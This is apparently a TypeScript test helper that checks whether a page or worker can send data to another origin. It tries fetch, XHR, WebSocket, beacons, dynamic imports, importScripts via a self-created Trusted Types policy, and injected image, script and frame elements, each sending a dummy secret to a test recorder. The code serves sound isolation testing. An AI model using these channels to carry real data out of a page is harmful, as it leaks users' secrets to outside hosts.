// Every way by which code could send data to another origin. These functions run inside a page or
// a worker, so they can use nothing from outside themselves. Whether an attempt is refused is not
// the question, so failures are dropped: a recorder tells whether anything arrived.

/** What both pages and workers can try. */
export async function sendFromAnyThread(target: string): Promise<void> {
  const secret = 'name=value';
  const attempt = (send: () => unknown) =>
    Promise.race([
      Promise.resolve().then(send),
      new Promise((resolve) => setTimeout(resolve, 1_000)),
    ]).catch(() => undefined);

  await attempt(() => fetch(`${target}fetch`, { method: 'POST', body: secret, mode: 'no-cors' }));
  await attempt(() => {
    const request = new XMLHttpRequest();
    request.open('POST', `${target}xhr`);
    request.send(secret);
  });
  await attempt(() => new WebSocket(`${target.replace('http', 'ws')}websocket`));
  await attempt(() => new EventSource(`${target}event-source`));
  await attempt(() => import(/* @vite-ignore */ `${target}import`) as Promise<unknown>);
  await attempt(() => {
    type Policy = Record<'createScriptURL', (url: string) => string>;
    const thread = globalThis as unknown as {
      trustedTypes?: { createPolicy(name: string, rules: Policy): Policy };
      importScripts(url: string): void;
    };
    // A script that got in could create the one policy that is allowed, so this does.
    const policy = thread.trustedTypes?.createPolicy('debut-worker-url', {
      createScriptURL: (url) => url,
    });
    const url = `${target}import-scripts`;
    thread.importScripts(policy?.createScriptURL(url) ?? url);
  });
}

/** What only a page can try. */
export async function sendFromPage(target: string): Promise<void> {
  const add = (tag: string, properties: object) =>
    document.body.append(Object.assign(document.createElement(tag), properties));
  const attempts = [
    () => navigator.sendBeacon(`${target}beacon`, 'name=value'),
    () => add('img', { src: `${target}image` }),
    () => add('iframe', { src: `${target}frame` }),
    () => add('script', { src: `${target}script` }),
    () => add('link', { rel: 'stylesheet', href: `${target}style` }),
    () => add('link', { rel: 'prefetch', href: `${target}prefetch` }),
    () => add('video', { src: `${target}video` }),
    () => add('object', { data: `${target}object` }),
  ];
  for (const attempt of attempts)
    await Promise.resolve()
      .then(attempt)
      .catch(() => undefined);
}
